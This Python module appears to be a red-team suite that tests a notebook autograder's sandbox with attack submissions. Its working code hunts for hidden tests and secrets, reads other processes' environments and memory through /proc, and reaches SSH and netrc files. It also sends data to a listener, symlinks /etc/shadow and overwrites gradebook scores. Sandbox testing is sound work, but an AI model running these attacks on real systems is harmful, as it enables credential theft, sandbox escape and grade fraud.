"""Attacks that look for the answers, the hidden tests, secrets and other students' work.

What one finds it prints behind a marker; a listener and canaries show what it reached.
"""

from .payloads import FOUND
from .registry import Submission, attack

FAMILY = "reading"


def _look(s: Submission, code: str) -> None:
    s.first(FOUND + code)


@attack(FAMILY, "opens the source notebooks, the secret and the gradebook by relative paths")
def relative_paths(s: Submission) -> None:
    _look(s, """
from pathlib import Path

names = ["source", "gradebook.db", "course_secret", "secret.txt", "autograded", "submitted"]
for folder in [Path.cwd(), *Path.cwd().parents]:
    for path in [folder / name for name in names]:
        if path.exists():
            found(path)
""")


@attack(FAMILY, "opens them by the absolute path that it guessed")
def absolute_paths(s: Submission) -> None:
    _look(s, """
from pathlib import Path

for name in ["source", "gradebook.db", "course_secret", "secret.txt", "submitted"]:
    path = Path("@ROOT@") / name
    try:
        if path.is_dir():
            found([str(p) for p in path.iterdir()])
        elif path.exists():
            found(path.read_bytes()[:100])
    except OSError:
        pass
""")


@attack(FAMILY, "searches the whole file system for hidden tests and course secrets")
def whole_file_system(s: Submission) -> None:
    _look(s, """
import os
import time

until = time.monotonic() + 15
wanted = ("course_secret", "gradebook.db", "04_critic_loss.ipynb", "secret.txt", "mutants")
for top in ("/home", "/root", "/srv", "/opt", "/mnt", "/media", "/var", "/work", "/workspace",
            "/tmp", "/run", "/data", "/usr/local"):
    for folder, folders, files in os.walk(top):
        if time.monotonic() > until:
            break
        if os.path.realpath(folder).startswith(os.getcwd()) or "site-packages" in folder:
            continue
        for name in set(wanted) & {*folders, *files}:
            found(os.path.join(folder, name))
""")


@attack(FAMILY, "imports the instructor's package and takes its answers", bites=True)
def import_instructor(s: Submission) -> None:
    s.after_imports(FOUND + """
import importlib
import pkgutil

for module in ("ddpg_helpers.instructor", "ddpg_helpers.instructor.reference"):
    try:
        package = importlib.import_module(module)
    except Exception:
        continue
    found(package.__path__)
    for part in pkgutil.walk_packages(package.__path__, module + "."):
        if "reference" not in part.name:
            continue
        try:
            answers = vars(importlib.import_module(part.name))
        except Exception:
            continue
        for name in ("td_target", "critic_loss", "update_critic"):
            if name in answers:
                globals()[name] = answers[name]
                globals()["_found_" + name] = answers[name]
""")
    for name in ("td_target", "critic_loss", "update_critic"):
        s.append(name, f"{name} = globals().get('_found_{name}', {name})")


@attack(FAMILY, "follows editable installs and import paths to the repository")
def import_paths(s: Submission) -> None:
    _look(s, """
import os
import sys
from pathlib import Path

import ddpg_helpers

places = {Path(p) for p in sys.path if p} | {Path(ddpg_helpers.__file__).resolve().parents[1]}
for place in list(places):
    for link in place.glob("*.pth") if place.is_dir() else []:
        places |= {Path(line) for line in link.read_text().splitlines() if line.startswith("/")}
for finder in sys.meta_path:
    mapping = getattr(sys.modules.get(getattr(finder, "__module__", "")), "MAPPING", {})
    places |= {Path(p).parent for p in mapping.values()}
for place in places:
    for name in ("ddpg_helpers/instructor", "source", "tests/sample_class", "course_secret"):
        if (place / name).exists():
            found(place / name)
""")


@attack(FAMILY, "walks up the frames from an answer to whoever judges it")
def frame_walking(s: Submission) -> None:
    s.write("td_target", FOUND + """
import sys


def td_target(batch, actor_target, critic_target, gamma):
    frame = sys._getframe(1)
    while frame:
        names = {**frame.f_locals, **frame.f_globals}
        where = frame.f_code.co_filename
        if "instructor" in where or "grading" in where:
            found(where)
        for name in ("right_outcomes", "seed", "secret", "course_secret", "grade", "judge"):
            if name in names and "ddpg" in repr(names[name]):
                found((name, names[name]))
        frame = frame.f_back
    raise ValueError
""")


@attack(FAMILY, "searches all objects in memory for the instructor's modules and functions")
def garbage_collector(s: Submission) -> None:
    s.append("update_critic", FOUND + """
import gc
import sys
import types

for name in list(sys.modules):
    if ".instructor" in name or name.startswith("nbgrader"):
        found(name)
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and ".instructor" in str(thing.__module__):
        found(thing)
""")


@attack(FAMILY, "reads what was executed in this kernel: history, In, the cells' code cache")
def executed_history(s: Submission) -> None:
    s.append("update_critic", FOUND + """
import linecache


def look(*_):
    texts = list(get_ipython().user_ns.get("In", []))
    texts += [
        "".join(entry[2])
        for name, entry in linecache.cache.items()
        if len(entry) > 2 and "/torch/" not in name  # whose own files set seeds, too
    ]
    for text in texts:
        if "HIDDEN" + " TESTS" in text or "grade" + "(" in text or "seed" + "=" in text:
            found(text)


get_ipython().events.register("post_execute", look)
""")


@attack(FAMILY, "reads its own environment for what the grader's holds")
def own_environment(s: Submission) -> None:
    _look(s, """
import os

for name, value in os.environ.items():
    if "SECRET" in name or "PASSWORD" in name:
        found((name, value))
""")


@attack(FAMILY, "reads the environment of every process it sees")
def proc_environ(s: Submission) -> None:
    _look(s, """
import glob

for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    for entry in text.split(bytes(1)):
        if b"SECRET" in entry:
            found(entry)
""")


@attack(FAMILY, "reads the command lines, folders and open files of every process it sees")
def proc_links(s: Submission) -> None:
    _look(s, """
import glob
import os

own = os.getcwd()
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    # The program that sets up a sandbox may show its own command line: it holds paths, no more.
    if any(word in text for word in (b"grade_class", b"nbgrader", b"pytest")) and (
        b"bwrap" not in text
    ):
        found(text)
for path in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        target = os.readlink(path)
    except OSError:
        continue
    if target.endswith("gradebook.db") or target.rstrip("/") == "@ROOT@":
        found((path, target))
""")


@attack(FAMILY, "leaves the sandbox through /proc/1/root and the roots of other processes")
def proc_root(s: Submission) -> None:
    _look(s, """
import glob
import os

for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd/../../.."):
    for name in ("source", "secret.txt", "gradebook.db"):
        path = root + "@ROOT@/" + name
        try:
            if os.path.exists(path):
                found(path)
        except OSError:
            pass
""")


@attack(FAMILY, "searches the memory of its parents for hidden tests")
def proc_memory(s: Submission) -> None:
    _look(s, """
import os
import re

wanted = b"HIDDEN " + b"TESTS"
pid, read = os.getppid(), 0
while pid > 0 and read < 2 * 10**8:
    try:
        maps = open(f"/proc/{pid}/maps").read()
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps.splitlines():
                span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if not span or "[v" in line:
                    continue
                start, end = (int(part, 16) for part in span.groups())
                try:
                    memory.seek(start)
                    text = memory.read(min(end - start, 10**7))
                except (OSError, ValueError, OverflowError):
                    continue
                read += len(text)
                at = text.find(wanted)
                if at >= 0:
                    found(text[at : at + 100])
        status = open(f"/proc/{pid}/stat").read()
    except OSError:
        break
    pid = int(status.rpartition(")")[2].split()[1])
""")


@attack(FAMILY, "opens other students' submissions")
def other_students(s: Submission) -> None:
    _look(s, """
import glob

tops = ("..", "../..", "@ROOT@/submitted", "@ROOT@/autograded", "@ROOT@/feedback")
for top in tops:
    for student in ("full", "half", "mask_missing"):
        for path in glob.glob(f"{top}/{student}/**/*", recursive=True):
            found(path)
""")


@attack(FAMILY, "reads the grader's home, by its variable and by its account")
def home_folder(s: Submission) -> None:
    _look(s, """
import glob
import os
import pwd

for home in {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir, "@ROOT@/home"}:
    for name in (".ssh", ".netrc", ".bash_history", ".gitconfig", "secret.txt"):
        if os.path.exists(os.path.join(home, name)):
            found(os.path.join(home, name))
""")


@attack(FAMILY, "finds other kernels' connection files")
def other_kernels(s: Submission) -> None:
    _look(s, """
import glob
import os

from ipykernel import get_connection_file
from jupyter_core.paths import jupyter_runtime_dir

own = os.path.realpath(get_connection_file())
folders = {jupyter_runtime_dir(), os.path.dirname(own), "/tmp", "/run"}
for folder in folders:
    for path in glob.glob(os.path.join(folder, "*.json")):
        if os.path.realpath(path) != own and '"signature_scheme"' in open(path).read():
            found(path)
""")


@attack(FAMILY, "tells a listener outside what the hidden probes are")
def network(s: Submission) -> None:
    s.write("td_target", """
import socket


def td_target(batch, actor_target, critic_target, gamma):
    for host in ("127.0.0.1", "localhost", socket.gethostname()):
        try:
            with socket.create_connection((host, @PORT@), timeout=1) as line:
                line.sendall(repr(batch).encode())
        except OSError:
            pass
    return None
""")


@attack(FAMILY, "writes ten points into the gradebook")
def gradebook(s: Submission) -> None:
    s.write("td_target", """
import glob
import sqlite3


def td_target(batch, actor_target, critic_target, gamma):
    for path in ["@ROOT@/gradebook.db", *glob.glob("../**/gradebook.db", recursive=True)]:
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book:
                book.execute("UPDATE grade SET auto_score = 10, manual_score = 10")
        except sqlite3.Error:
            pass
    return None
""")


@attack(FAMILY, "a link made while it runs brings a secret into its own folder")
def link_made_while_running(s: Submission) -> None:
    s.first("""
import os

for target in ("@ROOT@/secret.txt", "../../../secret.txt", "/etc/shadow"):
    for name in ("figure.png", "notes.txt", "04_critic_loss.html"):
        try:
            os.symlink(target, name)
        except OSError:
            pass
""")


@attack(FAMILY, "writes to the grader's folder, its own submission outside, and the home")
def write_outside(s: Submission) -> None:
    s.first("""
import os

places = (
    "@CANARIES@/write_outside", "@ROOT@/submitted/write_outside",
    "@ROOT@/source/write_outside", "../write_outside", "../../write_outside",
    os.path.expanduser("~/write_outside-@MARKER@"), "/var/tmp/write_outside-@MARKER@",
    "/dev/shm/write_outside-@MARKER@", "/tmp/write_outside-@MARKER@",
)
for place in places:
    try:
        open(place, "w").write("x")
    except OSError:
        pass
""")


@attack(FAMILY, "changes the package that later students are judged with")
def change_the_package(s: Submission) -> None:
    s.first("""
from pathlib import Path

import ddpg_helpers

for path in Path(ddpg_helpers.__file__).parent.rglob("*.json"):
    try:
        with path.open("r+") as file:  # opened for writing is enough; it is left as it is
            Path("@CANARIES@/change_the_package").write_text("x")
            print("FO" + "UND:", "could write", path)
            break
    except OSError:
        pass
""")
